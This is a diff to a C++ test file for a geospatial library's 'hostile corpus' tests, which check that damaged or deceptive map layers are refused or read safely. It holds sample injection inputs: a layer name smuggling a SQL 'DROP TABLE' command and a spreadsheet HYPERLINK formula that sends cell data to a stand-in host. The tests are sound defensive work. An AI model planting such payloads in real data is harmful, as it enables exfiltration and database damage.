@@ -1,6 +1,6 @@
 #include <sys/stat.h>
 
-#include <cstdlib>
+#include <algorithm>
 #include <functional>
 #include <map>
 #include <regex>
@@ -8,29 +8,13 @@
 #include "src/io/layer_file.hpp"
 #include "src/io/startup.hpp"
 #include "tests/catch.hpp"
+#include "tests/io/hostile.hpp"
 #include "tests/io/layer_text.hpp"
 
 using namespace tasi;
 using namespace tasi::testing;
 
 namespace {
-
-/// The corpus of damaged and deceitful files, unpacked; empty when the reference material is not there.
-struct Corpus {
-    TemporaryFolder folder;
-    bool there = false;
-
-    Corpus()
-    {
-        const auto archive = shared("checks/hostile/hostile.tar.gz");
-        if (archive.empty()) return;
-        const std::string command = "tar -xzf '" + archive.string() + "' -C '" + folder.path().string() + "'";
-        there = std::system(command.c_str()) == 0;
-        REQUIRE(there);
-        io::start_up();
-    }
-    std::string operator/(const std::string& name) const { return folder / name; }
-};
 
 using Use = std::function<void(io::Session&, const std::string&)>;
 
@@ -110,8 +94,9 @@ std::int64_t changed_at(const std::string& path)
 
 TEST_CASE("every layer of the hostile corpus is refused or read as its manifest says, and left as it was", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     std::size_t tried = 0, refused = 0;
     const nlohmann::json manifest = read_json(corpus / "manifest.json");
     for (const auto& item : manifest.at("items")) {
@@ -119,7 +104,7 @@ TEST_CASE("every layer of the hostile corpus is refused or read as its manifest 
         if (!uses().contains(role) || !is_layer(name)) continue;
         CAPTURE(name);
         ++tried;
-        const std::string path = corpus / name;
+        const std::string path = (corpus / name).string();
         const auto before = changed_at(path), folder_before = changed_at(std::filesystem::path(path).parent_path().string());
         io::Session session;
         const std::string result = refusal([&] { uses().at(role)(session, path); });
@@ -141,11 +126,12 @@ TEST_CASE("every layer of the hostile corpus is refused or read as its manifest 
 
 TEST_CASE("a spatial index that leaves out features hides nothing", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     io::Session session;
-    const Layer lying = io::read_layer(session, {corpus / "gpkg/rtree_lies.gpkg", {}, {}});
-    const Layer control = io::read_layer(session, {corpus / "control/shorelines.gpkg", {}, {}});
+    const Layer lying = io::read_layer(session, {(corpus / "gpkg/rtree_lies.gpkg").string(), {}, {}});
+    const Layer control = io::read_layer(session, {(corpus / "control/shorelines.gpkg").string(), {}, {}});
     REQUIRE(lying.features.size() == control.features.size());
     for (std::size_t i = 0; i < lying.features.size(); ++i) {
         CHECK(lying.features[i].geometry.lines == control.features[i].geometry.lines);
@@ -155,33 +141,36 @@ TEST_CASE("a spatial index that leaves out features hides nothing", "[hostile]")
 
 TEST_CASE("Z and M are dropped: a baseline with them is the baseline without", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     io::Session session;
-    const Layer layer = io::read_layer(session, {corpus / "geometry/base_3d.gpkg", {}, {}});
-    const Layer control = io::read_layer(session, {corpus / "control/baseline.gpkg", {}, {}});
+    const Layer layer = io::read_layer(session, {(corpus / "geometry/base_3d.gpkg").string(), {}, {}});
+    const Layer control = io::read_layer(session, {(corpus / "control/baseline.gpkg").string(), {}, {}});
     CHECK(layer.features.at(0).geometry.lines == control.features.at(0).geometry.lines);
 }
 
 TEST_CASE("an old crs member of GeoJSON is honoured; an assumed CRS serves only where there is none", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     io::Session session;
     Crs assumed;
     assumed.wkt = "assumed";
-    CHECK(io::read_layer(session, {corpus / "geometry/crs_member.geojson", {}, assumed}).crs.name == "EPSG:32751");
-    CHECK(io::read_layer(session, {corpus / "control/shorelines.gpkg", {}, assumed}).crs.name == "EPSG:32751");
+    CHECK(io::read_layer(session, {(corpus / "geometry/crs_member.geojson").string(), {}, assumed}).crs.name == "EPSG:32751");
+    CHECK(io::read_layer(session, {(corpus / "control/shorelines.gpkg").string(), {}, assumed}).crs.name == "EPSG:32751");
     assumed.projected = true;
-    CHECK(io::read_layer(session, {corpus / "shp/no_prj.shp", {}, assumed}).crs == assumed);
+    CHECK(io::read_layer(session, {(corpus / "shp/no_prj.shp").string(), {}, assumed}).crs == assumed);
 }
 
 TEST_CASE("a layer is chosen by name; a wrong name lists those there are", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     io::Session session;
-    const std::string file = corpus / "gpkg/two_layers.gpkg";
+    const std::string file = (corpus / "gpkg/two_layers.gpkg").string();
     CHECK(io::read_layer(session, {file, "shorelines_old", {}}).name == "shorelines_old");
     const std::string message = refusal([&] { io::read_layer(session, {file, "shore'); DROP TABLE x", {}}); });
     CHECK(contains(message, "2 LAYER has no layer 'shore'); DROP TABLE x'; choose one with --layer: shorelines, shorelines_old"));
@@ -189,10 +178,11 @@ TEST_CASE("a layer is chosen by name; a wrong name lists those there are", "[hos
 
 TEST_CASE("names with markup, formulas and control characters come through unchanged", "[hostile]")
 {
-    const Corpus corpus;
-    if (!corpus.there) return;
+    const std::filesystem::path corpus = hostile_corpus();
+    if (corpus.empty()) return;
+    io::start_up();
     io::Session session;
-    const Layer layer = io::read_layer(session, {corpus / "inject/settlements_names.gpkg", {}, {}});
+    const Layer layer = io::read_layer(session, {(corpus / "inject/settlements_names.gpkg").string(), {}, {}});
     CHECK(layer.features.size() == 20);
     const auto name = static_cast<std::size_t>(layer.field("name"));
     CHECK(text_of(layer.features.at(0).values.at(name)) == "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"Dili\")");
